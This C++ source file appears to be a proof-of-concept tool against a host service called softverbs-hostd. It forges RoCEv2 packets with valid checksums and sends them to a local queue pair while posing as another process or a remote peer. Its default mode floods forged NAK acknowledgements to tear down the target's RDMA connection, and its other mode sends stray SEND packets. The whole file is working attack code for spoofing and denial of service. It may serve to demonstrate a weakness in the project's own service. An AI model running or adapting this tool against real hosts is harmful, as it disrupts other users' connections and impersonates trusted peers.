// A local user posing as another local process, where a host service
// (softverbs-hostd) runs: it sends RoCEv2 packets, with valid ICRCs, to a
// QP of this host, as if from SRC_IP (an address of this host, which any
// local user may send from), one of two ways:
//   udp      a plain UDP socket bound to SRC_IP, to DST_IP port 4791
//   service  through the service's socket, as processes do (kSend), after
//            leasing a free registry slot of its own
//   hostd_inject udp|service SRC_IP DST_IP DST_QPN PSN COUNT [nak|send]
// With HOSTD_INJECT_SLOT=N, the service way leases slot N (the slot a
// remote peer's QPN carries, to pose as that peer), else any free one.
// nak (default): an RC ACKNOWLEDGE carrying a NAK (remote access error)
// for each PSN in [PSN, PSN+COUNT): one for a PSN in flight would fail that
// QP's send and end the connection. send: an RC SEND ONLY (to a QPN with
// no QP, each one that arrives counts in the receiver's no_qp counter).
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "net/roce_datagram.h"
#include "net/roce_frame.h"
#include "net/roce_header.h"
#include "net/roce_opcode.h"
#include "util/host_service_socket.h"

using namespace sv::net;
namespace hostd = sv::hostd;

namespace {

// A connection to the service holding a slot lease of its own; -1 if none.
int leased_connection() {
  uint32_t untrusted;
  const int fd = sv::connect_host_service(&untrusted);
  if (fd < 0) return -1;
  const char* wanted = std::getenv("HOSTD_INJECT_SLOT");
  const uint32_t only = wanted ? static_cast<uint32_t>(std::strtoul(wanted, nullptr, 0)) : 0;
  for (uint32_t slot = only ? only : 254; slot > (only ? only - 1 : 1); --slot) {
    hostd::Lease req;
    req.slot = slot;
    hostd::LeaseReply rep;
    if (send(fd, &req, sizeof req, 0) != sizeof req || recv(fd, &rep, sizeof rep, 0) != sizeof rep) break;
    if (rep.granted) {
      std::fprintf(stderr, "leased slot %u\n", slot);
      return fd;
    }
  }
  close(fd);
  return -1;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 7 && argc != 8) {
    std::fprintf(stderr, "usage: %s udp|service SRC_IP DST_IP DST_QPN PSN COUNT [nak|send]\n", argv[0]);
    return 2;
  }
  const bool via_service = std::string(argv[1]) == "service";
  const bool send_op = argc == 8 && std::string(argv[7]) == "send";
  in_addr src{}, dst{};
  if (inet_pton(AF_INET, argv[2], &src) != 1 || inet_pton(AF_INET, argv[3], &dst) != 1) return 2;
  const uint32_t qpn = static_cast<uint32_t>(std::strtoul(argv[4], nullptr, 0));
  const uint32_t psn = static_cast<uint32_t>(std::strtoul(argv[5], nullptr, 0));
  const int count = std::atoi(argv[6]);

  int fd = -1;
  uint16_t src_port = 49152;
  sockaddr_in to{};
  if (via_service) {
    fd = leased_connection();
    if (fd < 0) return std::fprintf(stderr, "no host service, or no slot\n"), 1;
  } else {
    fd = socket(AF_INET, SOCK_DGRAM, 0);
    sockaddr_in from{};
    from.sin_family = AF_INET;
    from.sin_addr = src;
    socklen_t len = sizeof from;
    if (fd < 0 || bind(fd, reinterpret_cast<sockaddr*>(&from), sizeof from) != 0 ||
        getsockname(fd, reinterpret_cast<sockaddr*>(&from), &len) != 0)
      return std::perror("udp socket"), 1;
    int df = IP_PMTUDISC_DO;  // IP ID 0, as the ICRC assumes
    setsockopt(fd, IPPROTO_IP, IP_MTU_DISCOVER, &df, sizeof df);
    src_port = ntohs(from.sin_port);
    to.sin_family = AF_INET;
    to.sin_port = htons(kRoceUdpPort);
    to.sin_addr = dst;
  }
  DatagramAddrs addrs;
  addrs.src_ip = v4_mapped(src.s_addr);
  addrs.dst_ip = v4_mapped(dst.s_addr);
  addrs.src_port = src_port;
  addrs.dst_port = kRoceUdpPort;
  std::vector<uint8_t> buf(kDatagramHeadroom + kDatagramOverhead + 64);
  int sent = 0;
  for (int i = 0; i < count; ++i) {
    RocePacket p;
    p.bth.dest_qp = qpn;
    p.bth.psn = (psn + static_cast<uint32_t>(i)) & 0xffffff;
    const uint8_t payload[16] = {};
    size_t n = 0;
    if (send_op) {
      p.bth.opcode = kTransportRc | kSendOnly;
      n = build_datagram(addrs, p, payload, sizeof payload, buf.data());
    } else {
      p.bth.opcode = kTransportRc | kAck;
      p.aeth.syndrome = aeth_nak(NakCode::kRemoteAccessError);
      p.aeth.msn = static_cast<uint32_t>(i) & 0xffffff;
      n = build_datagram(addrs, p, nullptr, 0, buf.data());
    }
    if (!n) continue;
    uint8_t* data = buf.data() + kDatagramHeadroom;
    ssize_t r;
    if (via_service) {
      hostd::DatagramHeader h;
      h.type = hostd::kSend;
      h.src = addrs.src_ip;
      h.dst = addrs.dst_ip;
      h.src_port = src_port;
      h.dst_port = kRoceUdpPort;
      iovec iov[2] = {{&h, sizeof h}, {data, n}};
      msghdr msg{};
      msg.msg_iov = iov;
      msg.msg_iovlen = 2;
      r = sendmsg(fd, &msg, MSG_NOSIGNAL);
    } else {
      r = sendto(fd, data, n, 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
    }
    if (r > 0) ++sent;
    if (i % 64 == 63) usleep(200);  // spread over the pair's run
  }
  std::printf("sent %d forged %s to QPN %#x (%s)\n", sent, send_op ? "SENDs" : "NAKs", qpn, argv[1]);
  return sent > 0 ? 0 : 1;
}
